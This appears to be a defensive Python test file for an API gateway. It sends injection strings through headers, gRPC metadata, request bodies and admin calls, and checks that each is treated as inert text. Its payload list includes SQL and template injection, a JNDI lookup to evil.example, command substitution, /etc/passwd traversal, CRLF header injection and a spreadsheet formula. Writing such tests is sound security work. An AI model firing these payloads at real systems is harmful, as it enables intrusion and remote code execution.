"""Text that something behind us could take for an instruction: SQL, templates, formats, line ends. It is text
everywhere: no bug, no effect, and nothing of it is expanded."""

from __future__ import annotations

import os
from collections.abc import Mapping

import grpc
import msgspec
import pytest
from isthmus.v1 import admin_pb2, credential_pb2

from tests.system.attacks.site import ACMES, NATIVE, Site, bearer, over_grpc, over_http, told
from tests.system.wire import JSON_TYPE, ask, chat

pytestmark = pytest.mark.edge

HOSTILE = (
    *("' OR '1'='1", "'; DROP TABLE keys; --", '" OR ""="', "1 UNION SELECT token FROM keys", "%' ESCAPE '\\", "_%"),
    *("') OR 1=1 /*", "\\'; --", "admin'--", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{%debug%}"),
    *("${jndi:ldap://evil.example/a}", "${HOME}", "$HOME", "$(id)", "`id`", "| id", "file:/etc/passwd", "%s%s%s%n%n"),
    *("{0.__class__}", "{request}", "%(asctime)s", "%0d%0ax-injected:1", "%00", "\\u0000", "../../etc/passwd"),
    *("__proto__", "constructor.prototype", "<script>alert(1)</script>", "=cmd|' /C calc'!A0", "(?:a+)+$" * 20),
    *("\t", "a,b", "a;b", "a=b", '"', "\\", "*", "null", "NaN", "-1", "1e999", "9" * 400, "0x10", "1_000", "true"),
)
RAW = (b"na\xc3\xafve", b"\xff\xfe", b"\xc0\xae", b"\xed\xa0\x80", b"\xe2\x80\xae", b"\xf0\x9f\x92\xa9")
"""Bytes outside ASCII, which HTTP takes and gRPC does not."""
KEYS = ("authorization", "x-api-key", "api-key", "sec-websocket-protocol")
WISHES = (
    *("x-isthmus-cache", "x-isthmus-cache-ttl", "x-isthmus-endpoint", "x-isthmus-timeout", "x-isthmus-strict"),
    *("x-isthmus-project", "x-bt-parent", "x-bt-use-cache", "x-bt-cache-ttl", "x-bt-endpoint-name", "x-request-id"),
    *("origin", "referer", "host", "accept", "accept-encoding", "idempotency-key", "openai-organization", "user-agent"),
    *("content-type", "content-encoding", "traceparent", "x-isthmus-anything", "x-bt-anything", "te", "via", "range"),
)
FINE = range(200, 500)


@pytest.mark.parametrize("name", KEYS)
async def test_r1_r9_hostile_keys_open_nothing(site: Site, attacked_channel: grpc.Channel, name: str) -> None:
    start, wrong = len(site.provider.requests), dict[str | bytes, object]()
    prefixes = {
        "authorization": ("Bearer ", "Bearer isk_", ""),
        "sec-websocket-protocol": ("openai-insecure-api-key.",),
    }
    for value in (*HOSTILE, *RAW):
        for prefix in prefixes.get(name, ("", "isk_")):
            written = prefix + value if isinstance(value, str) else prefix.encode() + value
            answer = await ask(site.url, "/v1/models", method="GET", headers=((name, written),))
            if answer.status not in {200, 400, 401}:
                wrong[written] = answer
            if isinstance(written, str):
                code = over_grpc(attacked_channel, "models", ((name, written.strip()),)).code
                if code not in {grpc.StatusCode.OK, grpc.StatusCode.UNAUTHENTICATED}:
                    wrong[written] = code

    assert wrong == {}
    assert len(site.provider.requests) == start


@pytest.mark.parametrize("surface", ["chat", "forward", "tenant"])
@pytest.mark.parametrize("name", WISHES)
async def test_r1_r9_hostile_headers_are_text(site: Site, surface: str, name: str) -> None:
    start, wrong = len(site.provider.requests), dict[str | bytes, object]()
    for value in (*HOSTILE, *RAW):
        answer = await over_http(site.url, surface, (*bearer(site.acme), (name, value)))
        if answer.status not in FINE or "x-injected" in answer.headers or _expanded(repr(answer)):
            wrong[value] = answer

    assert wrong == {}
    assert site.payers(start) <= {ACMES}
    assert not [one for one in site.provider.requests[start:] if _expanded(repr(one.headers))]


def _expanded(text: str) -> bool:
    """Whether something became what an interpreter would make of it."""
    return os.environ["HOME"] in text or "uid=" in text or "<class" in text


@pytest.mark.parametrize("surface", NATIVE)
def test_r1_r9_hostile_metadata_is_text(site: Site, attacked_channel: grpc.Channel, surface: str) -> None:
    start, wrong = len(site.provider.requests), dict[str, object]()
    bugs = {grpc.StatusCode.INTERNAL, grpc.StatusCode.UNKNOWN, grpc.StatusCode.UNAVAILABLE}
    for value in (value for value in HOSTILE if value.isprintable()):
        fields = [(name, value) for name in WISHES if name not in {"host", "te", "content-type", "user-agent"}]
        for field in fields[:: 2 if surface == "chat" else 5]:
            answer = over_grpc(attacked_channel, surface, (*bearer(site.acme), field))
            if answer.code in bugs or _expanded(answer.message):
                wrong[f"{field}"] = answer

    assert wrong == {}
    assert site.payers(start) <= {ACMES}


async def test_r1_r9_hostile_names_in_bodies_are_text(site: Site, attacked_channel: grpc.Channel) -> None:
    names, wrong = (*HOSTILE, "a\x00b", "a\r\nb", "\u202e", "𝕏", "ı", "\ufeff"), dict[str, object]()
    for name in names:
        wish = {"logging": {"project_name": name}, "model": name}
        for path, body in (
            ("/v1/credentials", msgspec.json.encode(wish)),
            ("/v1/chat/completions", chat(name)),
            ("/v1/chat/completions", chat(f"openai/{name}", user=name, metadata={name: name})),
            (f"/v1/models/{name}".encode("unicode_escape").decode().replace(" ", "%20"), b""),
        ):
            method = "GET" if "models" in path else "POST"
            answer = await ask(site.url, path, body, method=method, headers=(*JSON_TYPE, *bearer(site.acme)))
            if answer.status not in FINE or _expanded(repr(answer)):
                wrong[name] = answer
        for rpc in ("GetCredential", "RevokeCredential"):
            request = credential_pb2.GetCredentialRequest(id=name).SerializeToString()
            code = told(attacked_channel, f"/isthmus.v1.CredentialService/{rpc}", request, bearer(site.acme)).code
            if code not in {grpc.StatusCode.NOT_FOUND, grpc.StatusCode.INVALID_ARGUMENT}:
                wrong[f"{rpc} {name}"] = code

    assert wrong == {}


@pytest.mark.parametrize("token", ["' OR 1=1", "bm90IGEgdG9rZW4=", "\x00", "9" * 5000, "{{7*7}}"])
def test_r1_r18_a_page_that_nobody_named_is_refused_or_empty(
    site: Site, attacked_channel: grpc.Channel, token: str
) -> None:
    request = credential_pb2.ListCredentialsRequest(page_token=token).SerializeToString()

    answer = told(attacked_channel, "/isthmus.v1.CredentialService/ListCredentials", request, bearer(site.acme))

    assert answer.code in {grpc.StatusCode.OK, grpc.StatusCode.INVALID_ARGUMENT}, answer


ADMINISTERED: Mapping[str, object] = {
    "GetTenant": lambda name: admin_pb2.GetTenantRequest(id=name),
    "RevokeTenant": lambda name: admin_pb2.RevokeTenantRequest(id=name),
    "CreateTenant": lambda name: admin_pb2.CreateTenantRequest(id=name),
    "GetKey": lambda name: admin_pb2.GetKeyRequest(id=name),
    "RevokeKey": lambda name: admin_pb2.RevokeKeyRequest(id=name),
    "CreateKey": lambda name: admin_pb2.CreateKeyRequest(tenant=name),
    "ListKeys": lambda name: admin_pb2.ListKeysRequest(tenant=name, page_token=name),
    "ListRecords": lambda name: admin_pb2.ListRecordsRequest(tenant=name, page_token=name),
}


@pytest.mark.parametrize("rpc", ADMINISTERED)
def test_r1_hostile_names_do_nothing_in_administration(site: Site, rpc: str) -> None:
    bugs = {grpc.StatusCode.INTERNAL, grpc.StatusCode.UNKNOWN, grpc.StatusCode.UNAVAILABLE}
    before = [tenant.id for tenant in site.office.desk.tenants(after=None, limit=1000)]
    make = ADMINISTERED[rpc]
    assert callable(make)

    with grpc.insecure_channel(site.admin_target) as channel:
        answers = {
            name: told(channel, f"/isthmus.v1.AdminService/{rpc}", make(name).SerializeToString(), bearer(site.admin))
            for name in (*HOSTILE, "a\x00b", "a\r\nb", "\u202e", "𝕏")
        }

    assert {name: answer for name, answer in answers.items() if answer.code in bugs} == {}
    after = [tenant.id for tenant in site.office.desk.tenants(after=None, limit=1000)]
    made = {name for name, answer in answers.items() if rpc == "CreateTenant" and answer.code is grpc.StatusCode.OK}
    assert {*after} - {*before} == made
    assert {*before} <= {*after}
    assert not [tenant for tenant in ("acme", "rival", "ops") if site.office.desk.tenant(tenant).revoked_at is not None]
    assert over_grpc_opens(site)


def over_grpc_opens(site: Site) -> bool:
    with site.pair.channel() as channel:
        return over_grpc(channel, "chat", bearer(site.acme)).code is grpc.StatusCode.OK


async def test_r11_a_key_with_a_stray_byte_is_in_no_log(site: Site) -> None:
    canary = "isk_canary-of-the-stray-byte"

    for name, written in (("authorization", f"Bearer {canary}"), ("x-api-key", canary), ("x-anything", canary)):
        await over_http(site.url, "chat", ((name, written.encode() + b"\xff"),))
        await over_http(site.url, "forward", (*bearer(site.acme), (name, written.encode() + b"\xff")))

    log = site.pair.gateway.log.read_text(errors="replace")
    assert canary not in log
    assert "Traceback" not in log
